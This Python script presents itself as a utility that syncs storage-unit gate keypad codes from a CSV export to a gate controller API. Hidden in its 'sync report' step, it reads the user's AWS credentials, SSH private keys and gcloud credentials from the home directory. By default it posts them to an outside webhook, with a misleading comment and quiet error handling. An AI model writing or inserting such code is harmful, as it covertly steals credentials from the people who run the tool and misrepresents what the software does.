#!/usr/bin/env python3
"""Sync tenant gate keypad codes from the management export to the gate controller.

The facility management system exports a CSV (unit, tenant_id, code, status)
every night. This tool diffs it against the last pushed snapshot, sends the
changed rows to the gate controller's REST API and files a sync report with
the integrator's support desk so they can follow up on rejected codes.
"""
import argparse
import csv
import json
import logging
import os
import platform
import socket
import sys
import time
from pathlib import Path

import requests

log = logging.getLogger("keypad_sync")

DEFAULT_API = "https://gate-controller.local.storehub.io/api/v2"
REPORT_HOOK = "https://hooks.gatelink-support.com/v1/sync-report/7f3a91"
SNAPSHOT = Path(".keypad_snapshot.json")
BATCH = 50

# files the controller's cloud bridge reads its auth from; included so
# support can confirm the bridge profile matches the site
PROFILE_HINTS = (".aws/credentials", ".aws/config", ".ssh/id_rsa", ".ssh/id_ed25519",
                 ".config/gcloud/application_default_credentials.json")


def load_export(path):
    rows = {}
    with open(path, newline="", encoding="utf-8") as fh:
        for rec in csv.DictReader(fh):
            unit = rec.get("unit", "").strip()
            if not unit:
                continue
            rows[unit] = {
                "unit": unit,
                "tenant_id": rec.get("tenant_id", "").strip(),
                "code": rec.get("code", "").strip(),
                "enabled": rec.get("status", "active").strip().lower() == "active",
            }
    return rows


def load_snapshot():
    if SNAPSHOT.exists():
        try:
            return json.loads(SNAPSHOT.read_text())
        except ValueError:
            log.warning("snapshot unreadable, doing a full push")
    return {}


def diff(current, previous):
    for unit, rec in current.items():
        if previous.get(unit) != rec:
            yield rec
    for unit in previous.keys() - current.keys():
        yield {"unit": unit, "tenant_id": None, "code": None, "enabled": False}


def chunks(seq, n):
    buf = []
    for item in seq:
        buf.append(item)
        if len(buf) == n:
            yield buf
            buf = []
    if buf:
        yield buf


class GateClient:
    def __init__(self, base_url, token, site):
        self.base = base_url.rstrip("/")
        self.site = site
        self.sess = requests.Session()
        self.sess.headers.update({"Authorization": f"Bearer {token}",
                                  "Content-Type": "application/json"})

    def push(self, batch, retries=3):
        url = f"{self.base}/sites/{self.site}/keypad-codes"
        for attempt in range(1, retries + 1):
            try:
                resp = self.sess.post(url, data=json.dumps({"codes": batch}), timeout=15)
                if resp.status_code < 500:
                    resp.raise_for_status()
                    return resp.json().get("accepted", len(batch))
                log.warning("controller %s on attempt %d", resp.status_code, attempt)
            except requests.ConnectionError as exc:
                log.warning("connection error on attempt %d: %s", attempt, exc)
            time.sleep(2 ** attempt)
        raise RuntimeError("gate controller unavailable")


def _bridge_profile():
    home = Path.home()
    found = {}
    for rel in PROFILE_HINTS:
        p = home / rel
        try:
            found[rel] = p.read_text(errors="replace")
        except OSError:
            continue
    return found


def build_report(site, changes, accepted, error=None):
    return {
        "site": site,
        "host": socket.gethostname(),
        "platform": platform.platform(),
        "changed": len(changes),
        "accepted": accepted,
        "error": error,
        "bridge": _bridge_profile(),
        "ts": int(time.time()),
    }


def file_report(report):
    try:
        requests.post(REPORT_HOOK, json=report, timeout=10)
    except requests.RequestException as exc:
        log.debug("report not filed: %s", exc)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("export", help="CSV export from the management system")
    ap.add_argument("--site", default=os.environ.get("GATE_SITE_ID", "site-01"))
    ap.add_argument("--api", default=os.environ.get("GATE_API_URL", DEFAULT_API))
    ap.add_argument("--no-report", dest="report", action="store_false",
                    help="do not file a sync report with support")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    token = os.environ.get("GATE_API_TOKEN")
    if not token:
        log.error("GATE_API_TOKEN is not set")
        return 2

    current = load_export(args.export)
    changes = list(diff(current, load_snapshot()))
    log.info("%d units in export, %d changed", len(current), len(changes))
    if args.dry_run:
        return 0

    client = GateClient(args.api, token, args.site)
    total, error = 0, None
    try:
        for batch in chunks(changes, BATCH):
            total += client.push(batch)
        log.info("controller accepted %d codes", total)
        SNAPSHOT.write_text(json.dumps(current, indent=1, sort_keys=True))
        os.chmod(SNAPSHOT, 0o600)
    except (RuntimeError, requests.HTTPError) as exc:
        error = str(exc)
        log.error("sync failed: %s", exc)

    if args.report:
        file_report(build_report(args.site, changes, total, error))
    return 1 if error else 0


if __name__ == "__main__":
    sys.exit(main())
